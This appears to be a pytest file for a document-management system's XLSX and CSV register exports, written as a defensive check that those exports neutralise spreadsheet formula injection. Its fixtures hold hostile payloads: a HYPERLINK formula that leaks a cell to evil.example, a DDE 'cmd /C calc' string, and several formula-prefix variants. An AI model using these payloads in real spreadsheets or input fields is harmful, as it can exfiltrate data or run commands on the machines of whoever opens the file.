"""Text typed by other people (a sender, a recipient, a handler's name) never becomes a live
formula in an exported register or statistics table: XLSX cells stay string cells with the
text as typed, CSV fields that start like a formula carry a leading apostrophe."""
import csv
import io

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import update

from docmgr.core import exports
from docmgr.core.auth import Organization, User
from tests.conftest import registration_form, upload
from tests.outbound import conftest as outbound_fixtures

keys = outbound_fixtures.keys
new_draft = outbound_fixtures.new_draft
signed_draft = outbound_fixtures.signed_draft
issued = outbound_fixtures.issued

HOSTILE_SENDER = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
HOSTILE_RECIPIENT = "+cmd|' /C calc'!A0"


def _xlsx_cells(body: bytes) -> list:
    sheet = load_workbook(io.BytesIO(body)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _csv_fields(body: bytes) -> list[str]:
    return [field for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for field in row]


def assert_inert(xlsx: bytes, csv_body: bytes, texts: list[str]) -> None:
    """No formula anywhere; each hostile text kept as typed in XLSX, apostrophe-led in CSV."""
    cells = _xlsx_cells(xlsx)
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    fields = _csv_fields(csv_body)
    assert not [f for f in fields if f.startswith(exports.FORMULA_STARTS)]
    for text in texts:
        found = [c for c in cells if c.value == text]
        assert found and all(c.data_type == "s" and c.quotePrefix for c in found), text
        assert "'" + text in fields, text


def _export(client, url: str) -> tuple[bytes, bytes]:
    bodies = []
    for fmt in ("xlsx", "csv"):
        r = client.get(f"{url}{'&' if '?' in url else '?'}format={fmt}")
        assert r.status_code == 200, r.data[:300]
        bodies.append(r.data)
    return bodies[0], bodies[1]


def test_incoming_register_keeps_a_hostile_sender_as_text(api, pdf_bytes):
    r = api("clerk").post("/api/v1/incoming", data={
        **registration_form(sender=HOSTILE_SENDER, notation="@SUM(1+1)"),
        "file": upload(pdf_bytes)})
    assert r.status_code == 201, r.json
    assert r.json["sender"] == HOSTILE_SENDER
    xlsx, csv_body = _export(api("clerk"), "/api/v1/registers/incoming")
    assert_inert(xlsx, csv_body, [HOSTILE_SENDER, "@SUM(1+1)"])


def test_incoming_register_page_download_is_inert_too(api, browser_login, pdf_bytes):
    api("clerk").post("/api/v1/incoming", data={
        **registration_form(sender=HOSTILE_SENDER), "file": upload(pdf_bytes)})
    xlsx, csv_body = _export(browser_login("clerk"), "/incoming/register/export")
    assert_inert(xlsx, csv_body, [HOSTILE_SENDER])


def test_outgoing_register_keeps_hostile_recipients_as_text(api, issued):
    issued(recipients=f'["{HOSTILE_RECIPIENT}", "- Như trên"]')
    xlsx, csv_body = _export(api("clerk"), "/api/v1/registers/outgoing")
    # The register joins the recipients in one cell: it starts with the hostile one.
    assert_inert(xlsx, csv_body, [f"{HOSTILE_RECIPIENT}; - Như trên"])


def test_statistics_keep_hostile_names_as_text(api, db, world, pdf_bytes):
    hostile_name, hostile_org = "@SUM(A1:A9)*cmd", "=1+1 Văn phòng"
    with db.transaction() as s:
        s.execute(update(User).where(User.id == world.users["specialist"].id)
                  .values(full_name=hostile_name))
        s.execute(update(Organization).where(Organization.id == world.org.id)
                  .values(name=hostile_org))
    doc = api("clerk").post("/api/v1/incoming", data={**registration_form(),
                                                      "file": upload(pdf_bytes)}).json
    r = api("leader").post(f"/api/v1/incoming/{doc['id']}/assignments",
                           json={"role": "main", "user_id": world.users["specialist"].id})
    assert r.status_code == 201, r.json
    xlsx, csv_body = _export(api("leader"), "/api/v1/stats?group_by=handler")
    assert_inert(xlsx, csv_body, [hostile_name])
    title = load_workbook(io.BytesIO(xlsx)).active["A1"]
    assert title.data_type == "s" and title.value.startswith(hostile_org) and title.quotePrefix


@pytest.mark.parametrize("text", [
    "=1+1", "+1", "-1+1", "@A1", "\t=1+1", "\r=1+1", "\n=1", "\uff1d1+1", "\uff0b1",
    "\uff0d1", "\uff20A1", "\x01=1+1"])
def test_formula_like_text_is_neutralised(text):
    kept = text.replace("\x01", "")
    assert exports.csv_cell(text) == "'" + kept
    cell = Workbook().active["A1"]
    exports.write_cell(cell, text)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (kept, "s", True)


@pytest.mark.parametrize("value,data_type", [(42, "n"), (-3, "n"), (0.5, "n"), (None, "n")])
def test_numbers_stay_numbers(value, data_type):
    assert exports.csv_cell(value) == value
    cell = Workbook().active["A1"]
    exports.write_cell(cell, value)
    assert (cell.value, cell.data_type) == (value, data_type)


@pytest.mark.parametrize("text", ["Sở Tài chính", "#N/A", "412/STC-NS", "1 = 1"])
def test_plain_text_is_written_unchanged(text):
    assert exports.csv_cell(text) == text
    cell = Workbook().active["A1"]
    exports.write_cell(cell, text)
    assert (cell.value, cell.data_type, bool(cell.quotePrefix)) == (text, "s", False)
